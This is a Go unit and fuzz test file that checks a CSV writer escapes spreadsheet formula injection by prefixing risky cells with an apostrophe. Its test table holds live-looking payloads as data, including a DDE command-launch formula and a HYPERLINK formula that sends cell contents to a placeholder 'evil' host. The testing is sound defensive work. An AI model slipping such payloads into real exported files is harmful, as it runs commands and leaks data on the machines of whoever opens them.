package render

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestCells(t *testing.T) {
	for _, tt := range []struct{ name, value, want string }{
		{"a word", "my-env", "my-env"},
		{"nothing", "", ""},
		{"a date", "20/11/2026 21:11:25", "20/11/2026 21:11:25"},
		{"a path", "llm/llama3/11434", "llm/llama3/11434"},
		{"a number", "-1", "-1"},
		{"a signed number", "+4.5", "+4.5"},
		{"a mark within", "a=b+c-d@e", "a=b+c-d@e"},
		{"a comma", "a,b", `"a,b"`},
		{"quotes", `say "x"`, `"say ""x"""`},
		{"a newline", "a\nb", "\"a\nb\""},
		{"a formula", "=1+1", `"'=1+1"`},
		{"a program", `=cmd|' /C calc'!A0`, `"'=cmd|' /C calc'!A0"`},
		{"a link", `=HYPERLINK("http://evil/?"&A1,"x")`, `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`},
		{"plus", "+1+cmd", `"'+1+cmd"`},
		{"minus", "-1+cmd", `"'-1+cmd"`},
		{"a lone minus", "-", `"'-"`},
		{"at", "@SUM(A1)", `"'@SUM(A1)"`},
		{"tab", "\t=1", "\"'\t=1\""},
		{"return", "\r=1", "\"'\r=1\""},
		{"newline", "\n=1", "\"'\n=1\""},
		{"wide marks", "＝1+1", `"'＝1+1"`},
		{"behind a semicolon", "a;=1+1", `"a;=1+1"`},
		{"behind a tab", "a\t=1+1", "\"a\t=1+1\""},
		{"behind a comma and a quote", `a",=1+1`, `"a"",=1+1"`},
	} {
		t.Run(tt.name, func(t *testing.T) { require.Equal(t, tt.want, cell(tt.value)) })
	}
}

// FuzzCells: a reader of CSV gets back each value, with at most an apostrophe in
// front, and none that a spreadsheet computes.
func FuzzCells(f *testing.F) {
	for _, seed := range []string{"", "a", "=1", "-1", `a",=1`, "\\.", " a", "'", "a\r\nb"} {
		f.Add(seed, "x")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		var out strings.Builder
		require.NoError(t, WriteCSV(&out, [][]string{{a, b}}))
		if !strings.Contains(a+b, "\r") { // the reader makes \n of \r\n
			read, err := csv.NewReader(strings.NewReader(out.String())).Read()
			require.NoError(t, err)
			require.Contains(t, []string{a, "'" + a}, read[0])
			require.Contains(t, []string{b, "'" + b}, read[1])
		}
		for _, c := range []string{cell(a), cell(b)} {
			inside := strings.TrimPrefix(c, `"`)
			if strings.IndexAny(inside, "=+-@\t\r") == 0 {
				require.Regexp(t, `^[-+][0-9.]+$`, c)
			}
		}
	})
}

// Ordinary values are written as they were before: 1.4.3's readers see no change.
func TestOrdinaryCSVIsUnchanged(t *testing.T) {
	row := []string{"gpu-server-1", "1667", "alice", "my-env", "20/11/2026 21:11:25", "", "a b", `"`, "a,b", " x", `\.`}
	var was, is strings.Builder
	w := csv.NewWriter(&was)
	require.NoError(t, w.Write(row))
	w.Flush()
	require.NoError(t, WriteCSV(&is, [][]string{row}))
	require.Equal(t, was.String(), is.String())
}
